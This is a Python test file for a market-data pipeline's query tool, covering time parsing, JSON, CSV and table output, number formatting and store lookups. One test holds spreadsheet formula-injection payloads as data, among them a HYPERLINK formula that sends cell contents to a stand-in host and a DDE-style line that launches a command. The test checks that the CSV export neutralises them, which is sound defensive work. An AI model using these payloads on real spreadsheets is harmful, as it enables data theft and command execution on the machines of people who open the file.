import csv
import io
import json
from datetime import UTC, date, datetime, time, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline.model.documents import document_of
from pipeline.model.messages import Bar, Dividend, EconomicPoint, Forecast, HorizonForecast, Quote, Split
from pipeline.model.numbers import exact, plain
from pipeline.ops.query import Format, QueryError, check, find, parse_time, write
from pipeline.store.base import Query
from pipeline.store.embedded.store import EmbeddedStore
from testkit.data import NEW_YORK

NOW = datetime(2026, 3, 1, 12, tzinfo=UTC)
DOCUMENTS = [
    {
        "_id": "AAPL|1min|a",
        "ticker": "AAPL",
        "interval": "1min",
        "ts": datetime(2019, 2, 11, 14, 31, tzinfo=UTC),
        "close": 170.97,
    },
    {
        "_id": "AAPL|1min|b",
        "ticker": "AAPL",
        "interval": "1min",
        "ts": datetime(2019, 2, 11, 14, 32, tzinfo=UTC),
        "close": None,
    },
]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("2026-01-31", datetime(2026, 1, 31, tzinfo=UTC)),
        ("2026-01-31T09:30", datetime(2026, 1, 31, 9, 30, tzinfo=UTC)),
        ("2026-01-31T09:30+02:00", datetime(2026, 1, 31, 7, 30, tzinfo=UTC)),
        ("90m", datetime(2026, 3, 1, 10, 30, tzinfo=UTC)),
        ("1.5h", datetime(2026, 3, 1, 10, 30, tzinfo=UTC)),
        ("1d", datetime(2026, 2, 28, 12, tzinfo=UTC)),
    ],
)
def test_since(text: str, expected: datetime) -> None:
    assert parse_time(text, NOW) == expected


@pytest.mark.parametrize("text", ["yesterday", "", "7", "12:00pm"])
def test_a_time_that_is_none_says_what_is(text: str) -> None:
    with pytest.raises(QueryError, match="7d"):
        parse_time(text, NOW)


@pytest.mark.parametrize(
    "text",
    [
        "99999999d",
        "9999999999w",
        "800000d",
        "9" * 400 + "s",
        "0001-01-01T00:00+23:00",
        "9999-12-31T23:59-23:00",
    ],
)
def test_a_time_before_or_after_the_calendar_is_refused(text: str) -> None:
    with pytest.raises(QueryError, match="beyond the years 1 to 9999") as caught:
        parse_time(text, NOW)
    assert len(str(caught.value)) < 200


def test_unknown_names_are_refused_with_the_known_ones() -> None:
    with pytest.raises(QueryError, match="stock_data"):
        check("stocks", None)
    with pytest.raises(QueryError, match="5min"):
        check("stock_data", "2min")


def test_json_is_one_document_a_line() -> None:
    out = io.StringIO()
    write(DOCUMENTS, "json", NEW_YORK, out)
    lines = [json.loads(line) for line in out.getvalue().splitlines()]
    assert lines[0]["ts"] == "2019-02-11T14:31:00Z"
    assert lines[1]["close"] is None


def test_csv_reads_back() -> None:
    out = io.StringIO()
    write(DOCUMENTS, "csv", NEW_YORK, out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [row["close"] for row in rows] == ["170.97", ""]
    assert rows[0]["ts"] == "2019-02-11T14:31:00Z"


def test_a_table_has_its_columns_aligned(capsys: pytest.CaptureFixture[str]) -> None:
    out = io.StringIO()
    write(DOCUMENTS, "table", NEW_YORK, out)
    header, first, second = out.getvalue().splitlines()
    assert header.split() == ["ts", "ticker", "interval", "close"]
    assert first.endswith("170.97")
    assert second.endswith("–")
    assert len(header) == len(first) == len(second)
    write([], "table", NEW_YORK, out)
    assert "nothing found" in capsys.readouterr().err


def test_a_table_of_forecasts_has_what_fits_on_a_screen() -> None:
    horizons = tuple(HorizonForecast(horizon=bars, low_80=99.1234, high_80=100.432, count=7) for bars in (1, 5))
    forecast = Forecast(
        ts=NOW,
        ticker="AAPL",
        interval="1min",
        lineage=f"{1:08x}-{1:032x}",
        source="yahoo",
        close=99.7,
        horizons=horizons,
    )
    document = document_of(forecast)
    stored = {"_id": document.id, "ts": NOW, "ticker": "AAPL", "interval": "1min", "source": "yahoo"}
    header, *lines = printed([stored | msgspec.json.decode(msgspec.json.encode(document.body))], "table").splitlines()
    rows = [dict(zip(header.split(), line.split(), strict=True)) for line in lines]
    assert [(row["horizon"], row["low_80"], row["high_80"]) for row in rows] == [
        ("1", "99.1234", "100.432"),
        ("5", "99.1234", "100.432"),
    ]
    assert len(header) < 130


def printed(documents: list[dict[str, Any]], format_: Format, zone: ZoneInfo = NEW_YORK) -> str:
    out = io.StringIO()
    write(documents, format_, zone, out)
    return out.getvalue()


def daily(ts: datetime, **fields: Any) -> dict[str, Any]:
    return {"_id": "x", "ticker": "T", "interval": "daily", "ts": ts, "close": 10.7, **fields}


@pytest.mark.parametrize(
    ("zone", "day"),
    [
        ("Australia/Sydney", date(2019, 10, 18)),
        ("Asia/Tokyo", date(2024, 5, 7)),
        ("Asia/Kolkata", date(2024, 1, 1)),
        ("Europe/Paris", date(2024, 7, 1)),
        ("America/New_York", date(2019, 2, 15)),
        ("Pacific/Auckland", date(2024, 9, 29)),
    ],
)
def test_what_is_daily_bears_the_exchanges_day(zone: str, day: date) -> None:
    place = ZoneInfo(zone)
    ts = datetime.combine(day, time(), place).astimezone(UTC)
    _, row = printed([daily(ts)], "table", place).splitlines()
    assert row.split()[0] == day.isoformat()
    (record,) = csv.DictReader(io.StringIO(printed([daily(ts)], "csv", place)))
    document = json.loads(printed([daily(ts)], "json", place))
    for found in (record, document):
        assert found["day"] == day.isoformat()
        assert datetime.fromisoformat(found["ts"]) == ts, "the instant stays"


def test_only_what_is_daily_of_a_ticker_has_a_day() -> None:
    point = {"_id": "CPI", "series": "CPI", "interval": "daily", "ts": datetime(2024, 5, 1, tzinfo=UTC), "value": 3.0}
    assert "2024-05-01T00:00:00Z" in printed([point], "table")
    assert "day" not in json.loads(printed([point], "json"))
    assert "day" not in json.loads(printed(DOCUMENTS, "json").splitlines()[0])


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (0.00001324, "0.00001324"),
        (768655.99, "768655.99"),
        (15_234_567.89, "15234567.89"),
        (-37.63, "-37.63"),
        (1.5e-9, "0.0000000015"),
        (123.456789, "123.457"),
        (29_244_900.0, "29244900"),
        (0.0, "0"),
        (-0.0, "0"),
        (1e15, "1000000000000000"),
        (100.0, "100"),
    ],
)
def test_numbers_have_the_digits_they_need(value: float, shown: str) -> None:
    assert plain(value) == shown
    assert printed([{"_id": "x", "ts": NOW, "close": value}], "table").splitlines()[1].endswith(f"  {shown}")


@given(st.floats(allow_nan=False, allow_infinity=False))
def test_a_number_reads_back_and_has_no_exponent(value: float) -> None:
    assert float(exact(value)) == value
    assert float(plain(value)) == pytest.approx(value, rel=1e-5, abs=0)
    assert not set("eE") & set(plain(value) + exact(value))


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"IBM soars")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "\t=1",
        "＝1+1",
    ],
)
def test_text_in_csv_is_no_formula(text: str) -> None:
    article = {"_id": "x", "ts": NOW, "title": text, "words": [(text, 1.0)], "compound": -0.25}
    (row,) = csv.DictReader(io.StringIO(printed([article], "csv"), newline=""))
    assert row["title"] == f"'{text}"
    assert row["words"].startswith("'")
    assert row["compound"] == "-0.25", "a number is no text"
    assert json.loads(printed([article], "json"))["title"] == text


def test_text_that_is_no_formula_stays() -> None:
    for text in ("Apple = great", "a-b", "^GSPC up", "'quoted'", ""):
        (row,) = csv.DictReader(io.StringIO(printed([{"_id": "x", "ts": NOW, "title": text}], "csv")))
        assert row["title"] == text


async def test_a_table_of_stock_data_has_bars_or_quotes(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    store = EmbeddedStore(tmp_path / "store.db")
    await store.open()
    values = {"open": 1.0, "high": 1.0, "low": 1.0, "close": 1.0, "volume": 1.0}
    bars = [
        Bar(ticker=ticker, ts=NOW + timedelta(minutes=minute), interval=interval, **values)
        for minute, (ticker, interval) in enumerate([("AAPL", "1min"), ("AAPL", "5min"), ("MSFT", "1min")] * 2)
    ]
    quotes = [Quote(ticker="AAPL", ts=NOW + timedelta(minutes=minute), price=2.0) for minute in range(20)]
    others = [
        Split(ticker="AAPL", ts=NOW, numerator=4, denominator=1),
        Dividend(ticker="AAPL", ts=NOW, amount=0.25),
        Dividend(ticker="AAPL", ts=NOW - timedelta(days=90), amount=0.24),
    ]
    await store.upsert("stock_data", [document_of(message) for message in [*bars, *quotes, *others]])
    await store.upsert(
        "economic", [document_of(EconomicPoint(series="CPI", interval="monthly", ts=NOW, value=1.0, unit="%"))]
    )

    async def found(format_: Format, **wanted: Any) -> list[dict[str, Any]]:
        return await find(store, Query("stock_data", **wanted), format_)

    for format_ in ("table", "csv"):
        last = await found(format_, last=4)
        assert [(d["ticker"], d["interval"]) for d in last] == [
            ("MSFT", "1min"),
            ("AAPL", "1min"),
            ("AAPL", "5min"),
            ("MSFT", "1min"),
        ]
        told = capsys.readouterr().err
        assert all(f"--interval {other} shows them" in told for other in ("quote", "split", "dividend"))
        assert len(await found(format_)) == 6
        capsys.readouterr()
        assert len(await found(format_, interval="quote", last=5)) == 5
        assert [d["amount"] for d in await found(format_, interval="dividend")] == [0.24, 0.25]
        assert [d["numerator"] for d in await found(format_, interval="split")] == [4]
        assert [d["ticker"] for d in await found(format_, ticker="MSFT")] == ["MSFT", "MSFT"]
        assert capsys.readouterr().err == "", "nothing is left out"
    assert len(await found("json")) == 29
    assert len(await found("table", last=10**30)) == 6
    assert len(await found("json", last=10**30)) == 29
    assert len(await find(store, Query("economic"), "table")) == 1
    await store.close()
